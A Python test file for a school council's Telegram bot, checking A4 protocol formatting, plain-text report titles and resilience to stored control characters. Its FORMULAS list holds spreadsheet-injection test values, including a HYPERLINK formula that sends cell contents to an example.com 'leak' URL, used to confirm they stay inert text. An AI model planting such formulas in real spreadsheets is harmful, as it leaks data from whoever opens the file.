"""The files the council gets look like the school's own and cannot be turned against it (language issue §2,
issue 18 §4): the issued protocol is an A4 page with the school's margins and fonts; a title a person wrote
is words in the .xlsx, never a formula; a character that reached the database before the door cannot make
a file fail."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime

from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook
from sqlalchemy import select

from db.models import Material
from tests.conftest import BISHKEK, seed_council
from tests.flows.test_decisions import hold_meeting
from tests.flows.test_materials import DOCX, submit

FORMULAS = [
    '=HYPERLINK("https://example.com/?leak="&A1,"Ачуу")',
    "+7+7",
    "-3+3",
    "@SUM(A1:A9)",
]


async def test_the_issued_protocol_is_an_a4_page_with_the_schools_margins_and_fonts(flow):
    council = await seed_council(flow, members=10)
    await hold_meeting(flow, council, datetime(2026, 12, 3, 10, tzinfo=BISHKEK), [("Ачык сабактар", "Макул")])
    sent = await flow.say(council.chair, council.group, "/close")
    (issued,) = [m for m in sent if m.method == "sendDocument" and m.chat_id == council.group.id]
    document = Document(io.BytesIO(flow.api.files[issued.document["file_id"]][0]))
    for section in document.sections:
        assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)  # A4, not US Letter
        margins = (section.left_margin, section.right_margin, section.top_margin, section.bottom_margin)
        assert [round(m.mm) for m in margins] == [30, 10, 20, 20]
        assert "PAGE" in section.footer._element.xml  # the page number, a field Word fills in
    normal = document.styles["Normal"]
    assert (normal.font.name, normal.font.size.pt) == ("Times New Roman", 14)
    fonts = normal.element.rPr.rFonts
    assert fonts.get(qn("w:hAnsi")) == fonts.get(qn("w:cs")) == "Times New Roman"  # Cyrillic too, not only Latin
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "«Мектеп №5» методикалык кеңешинин отурумунун №1 ПРОТОКОЛУ"  # Kyrgyz first
    assert "Төрага: ____________ Гүлнара Осмонова" in texts and "Председатель: ____________ Гүлнара Осмонова" in texts
    assert any(t.startswith("Катчы: ____________") for t in texts)


async def test_a_title_written_as_a_formula_is_words_in_the_report(flow):
    council = await seed_council(flow, members=4)
    await flow.say(council.chair, council.chair, "/start")
    teacher = council.people[2]
    for number, title in enumerate(FORMULAS, 1):
        await submit(flow, teacher, DOCX + bytes([number]), f"file{number}.docx", title)
    assert sorted(m.title for m in await flow.rows(Material)) == sorted(FORMULAS)  # kept as typed
    _text, sheet, _chart = await flow.say(council.chair, council.chair, "/report")
    content = flow.api.files[sheet.document["file_id"]][0]
    materials = load_workbook(io.BytesIO(content))["Материалы"]
    cells = [row[0] for row in materials.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == sorted(FORMULAS)
    assert {cell.data_type for cell in cells} == {"s"}  # text cells, with no visible quote added
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # not one formula in the file


async def test_a_title_stored_before_the_door_cannot_make_the_report_fail(flow):
    council = await seed_council(flow, members=4)
    await flow.say(council.chair, council.chair, "/start")
    await submit(flow, council.people[2], DOCX, "bolchok.docx", "Бөлчөктөр")
    async with flow.sessionmaker() as session:  # as an older version of the bot may have stored it
        (material,) = (await session.scalars(select(Material))).all()
        material.title = "Бөлчөк\x01төр\ufffe"
        await session.commit()
    _text, sheet, _chart = await flow.say(council.chair, council.chair, "/report")
    materials = load_workbook(io.BytesIO(flow.api.files[sheet.document["file_id"]][0]))["Материалы"]
    assert materials["A2"].value == "Бөлчөктөр"
    (export,) = await flow.say(council.chair, council.chair, "/export")
    with zipfile.ZipFile(io.BytesIO(flow.api.files[export.document["file_id"]][0])) as archive:
        assert "report_2026-2027.xlsx" in archive.namelist()
